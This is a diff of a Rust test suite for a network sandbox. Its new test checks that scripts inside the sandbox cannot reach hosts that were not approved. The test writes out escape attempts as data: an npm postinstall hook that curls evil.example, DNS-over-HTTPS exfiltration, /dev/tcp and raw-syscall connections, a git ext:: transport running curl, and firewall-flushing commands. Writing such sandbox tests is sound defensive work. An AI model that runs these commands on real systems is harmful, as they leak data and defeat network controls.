@@ -106,30 +106,35 @@ fn rule(host: &str, port: u16) -> HostRule {
     }
 }
 
-struct Came {
-    done: Done,
+pub struct Came {
+    pub done: Done,
     traffic: Vec<HostTraffic>,
     world: Arc<World>,
 }
 
 impl Came {
-    fn of(&self, host: &str) -> &HostTraffic {
+    pub fn of(&self, host: &str) -> &HostTraffic {
         let found = self.traffic.iter().find(|traffic| traffic.host.to_string() == host);
         found.unwrap_or_else(|| panic!("{host} is not among {:#?}\n{:#?}", self.traffic, self.done))
     }
 
-    fn looked_up(&self, host: &str) -> bool {
+    /// Whether anybody was asked.
+    pub fn asked(&self) -> Vec<String> {
+        self.world.asked.lock().unwrap().clone()
+    }
+
+    pub fn looked_up(&self, host: &str) -> bool {
         self.world.looked_up.lock().unwrap().iter().any(|name| name == host)
     }
 }
 
 /// Runs a script with `good.example` on a port admitted.
-fn run(jail: &Jail, script: &str, port: u16) -> Came {
+pub fn run(jail: &Jail, script: &str, port: u16) -> Came {
     run_within(&jail.spec(SandboxLevel::Confined), jail, script, port)
 }
 
 /// The same in a cell of this kind.
-fn run_within(spec: &Spec, jail: &Jail, script: &str, port: u16) -> Came {
+pub fn run_within(spec: &Spec, jail: &Jail, script: &str, port: u16) -> Came {
     let world = Arc::new(World::default());
     let port_text = port.to_string();
     let start = jail.script(script, &[("port", &port_text), ("GIT_TERMINAL_PROMPT", "0")]);
@@ -137,6 +142,9 @@ fn run_within(spec: &Spec, jail: &Jail, script: &str, port: u16) -> Came {
     let rules: HostRules = [rule("good.example", port)].into_iter().collect();
     block_on(async {
         let mut cell = sandbox().open(&spec).await.unwrap();
+        if std::env::var_os(crate::notified::NO_NAMESPACES).is_some() {
+            crate::notified::is_notified(cell.protection());
+        }
         let outside: Arc<dyn Outside> = Arc::clone(&world) as _;
         let relay = Relay::begin(cell.take_network().unwrap(), rules, outside).unwrap();
         let done = run_in(&mut cell, start).await;
@@ -369,10 +377,13 @@ struct Counted {
     before: Mutex<Vec<u64>>,
 }
 
-/// How many packets have passed the interfaces of this process's network.
+/// How many packets have passed the interfaces of this process's network; without namespaces, those that lead to other machines.
 fn packets() -> u64 {
     let text = std::fs::read_to_string("/proc/self/net/dev").unwrap();
-    let counts = text.lines().filter_map(|line| line.split_once(':')).map(|(_, counts)| {
+    let leads_away =
+        |name: &str| name.trim() != "lo" || std::env::var_os(crate::notified::NO_NAMESPACES).is_none();
+    let lines = text.lines().filter_map(|line| line.split_once(':'));
+    let counts = lines.filter(|(name, _)| leads_away(name)).map(|(_, counts)| {
         let counts: Vec<u64> = counts.split_whitespace().map(|count| count.parse().unwrap()).collect();
         counts[1] + counts[9]
     });
@@ -397,8 +408,8 @@ impl Outside for Counted {
     }
 
     fn look_up<'a>(&'a self, _name: &'a DomainName) -> Later<'a, std::io::Result<Vec<IpAddr>>> {
-        let socket = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
-        let _ = socket.send_to(b"who is it", "127.0.0.1:9");
+        let socket = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
+        let _ = socket.send_to(b"who is it", "192.0.2.9:53");
         Box::pin(async { Ok(vec![Ipv4Addr::from([203, 0, 113, 9]).into()]) })
     }
 }
@@ -420,17 +431,27 @@ fn not_one_packet_leaves_before_a_yes() {
     const INNER: &str = "GUARDA_TEST_INNER";
     if std::env::var_os(INNER).is_none() {
         let own = std::env::current_exe().unwrap();
-        let line = "ip link set lo up && exec \"$0\" --exact relayed::not_one_packet_leaves_before_a_yes --nocapture";
-        let done = program("/usr/bin/unshare")
-            .args(["-rn", "/bin/bash", "-c", line])
-            .arg(own)
-            .envs(std::env::vars_os())
-            .env(INNER, "1")
-            .output()
-            .unwrap();
-        let text =
-            String::from_utf8_lossy(&done.stdout).into_owned() + &String::from_utf8_lossy(&done.stderr);
-        assert!(done.status.success() && text.contains("packets after a yes"), "{text}");
+        // A way to other machines on which nothing passes by itself.
+        let way = "ip link set lo up && ip link add v0 type veth peer name v1
+            for one in v0 v1; do echo 1 > /proc/sys/net/ipv6/conf/$one/disable_ipv6; ip link set $one arp off up; done
+            ip address add 10.9.9.1/24 dev v0 && ip route add default via 10.9.9.2";
+        let test = "exec \"$0\" --exact relayed::not_one_packet_leaves_before_a_yes --nocapture";
+        let without = format!(
+            "echo 0 > /proc/sys/user/max_net_namespaces && export {}=1",
+            crate::notified::NO_NAMESPACES
+        );
+        for line in [format!("{way} && {test}"), format!("{way} && {without} && {test}")] {
+            let done = program("/usr/bin/unshare")
+                .args(["-rn", "/bin/bash", "-c", &line])
+                .arg(&own)
+                .envs(std::env::vars_os())
+                .env(INNER, "1")
+                .output()
+                .unwrap();
+            let text =
+                String::from_utf8_lossy(&done.stdout).into_owned() + &String::from_utf8_lossy(&done.stderr);
+            assert!(done.status.success() && text.contains("packets after a yes"), "{text}");
+        }
         return;
     }
     let jail = Jail::new();
@@ -536,4 +557,87 @@ print(sum(len(one.recv(1)) for one in all))'";
     let came = run(&jail, script, port);
     assert_eq!(came.done.succeeds().out, "2000\n", "{:#?}", came.done);
     assert_eq!(came.of("good.example").connections, 2000);
+}
+
+/// Whatever a run starts or fetches is in the same network: each row wants one host that was not approved, in another way.
+#[test]
+fn no_way_of_a_run_leads_to_another_host() {
+    let relay_inside = "/usr/bin/python3 -c '
+import socket, threading, os
+server = socket.create_server((\"127.0.0.1\", 0))
+def forward():
+    client = server.accept()[0]
+    out = socket.create_connection((\"evil.example\", 80))
+    out.send(client.recv(4096)); client.send(out.recv(4096)); client.close()
+threading.Thread(target=forward, daemon=True).start()
+client = socket.create_connection(server.getsockname()); client.send(b\"GET / HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n\"); print(client.recv(4096))'";
+    let by_system_call = format!(
+        "/usr/bin/python3 -c '
+import ctypes, socket, struct
+s = socket.socket(); libc = ctypes.CDLL(None)
+libc.syscall({}, s.fileno(), struct.pack(\"!HH4s8x\", socket.htons(2), 80, socket.inet_aton(\"93.184.216.34\")), 16)
+s.send(b\"x\\n\"); s.recv(9)'",
+        libc::SYS_connect
+    );
+    let postinstall = "mkdir -p p && echo '{\"name\":\"p\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"curl -s http://evil.example/\"}}' > p/package.json && cd p && npm install --cache \"$TMPDIR/c\" --foreground-scripts --offline --no-update-notifier --no-audit --no-fund";
+    let rows: &[(&str, &str)] = &[
+        ("curl -s http://good.example:9/", "good.example"),
+        ("curl -s --noproxy '*' http://good.example:9/", "good.example"),
+        ("curl -s 'https://dns.google/resolve?name=c2VjcmV0.evil.example'", "dns.google"),
+        ("curl -s https://1.1.1.1/dns-query", "1.1.1.1"),
+        ("exec 3<>/dev/tcp/dns.quad9.net/853; echo x >&3; cat <&3", "dns.quad9.net"),
+        (
+            "/usr/bin/python3 -m pip download --no-cache-dir --disable-pip-version-check --retries 0 -d \"$TMPDIR/d\" --index-url http://good.example:$port/simple/ --extra-index-url http://evil.example/simple/ --trusted-host good.example --trusted-host evil.example foo",
+            "evil.example",
+        ),
+        (postinstall, "evil.example"),
+        (relay_inside, "evil.example"),
+        (&by_system_call, "93.184.216.34"),
+        ("git -c protocol.ext.allow=always ls-remote 'ext::curl -s http://evil.example/'", "evil.example"),
+        (
+            "env -i PATH=\"$PATH\" /usr/bin/python3 -c 'import urllib.request; urllib.request.urlopen(\"http://evil.example/\")'",
+            "evil.example",
+        ),
+        (
+            "nsenter -n -t 1 true; unshare -rn true; ip link set lo down; nft flush ruleset; curl -s http://evil.example/",
+            "evil.example",
+        ),
+    ];
+    let jail = Jail::new();
+    let server = Server::of(&folder(&jail, &[]));
+    for (line, host) in rows {
+        let came = run(&jail, line, server.port);
+        let seen = came.of(host);
+        assert!(seen.refused > 0 && !came.looked_up(host), "{line}: {:#?}", came.done);
+        assert_eq!(
+            (came.asked(), seen.connections),
+            (vec![(*host).to_owned()], 0),
+            "{line}: {:#?}",
+            came.done
+        );
+    }
+    assert_eq!(server.named("evil.example"), 0);
+}
+
+#[test]
+fn a_connection_does_not_outlive_its_run() {
+    let jail = Jail::new();
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let ended = std::thread::spawn(move || {
+        let (mut stream, _) = listener.accept().unwrap();
+        stream.set_read_timeout(Some(std::time::Duration::from_secs(100))).unwrap();
+        stream.write_all(b"hello\n").unwrap();
+        let mut rest = Vec::new();
+        // A reset is an end, too; a time-out is none.
+        match stream.read_to_end(&mut rest) {
+            Err(error) => error.kind() == std::io::ErrorKind::ConnectionReset,
+            Ok(_) => true,
+        }
+    });
+    let line =
+        "exec 3<>/dev/tcp/good.example/$port; read -u 3 word; echo $word; setsid sleep 300 & disown; exit 0";
+    let came = run(&jail, line, port);
+    assert_eq!(came.done.succeeds().out, "hello\n");
+    assert!(ended.join().unwrap());
 }
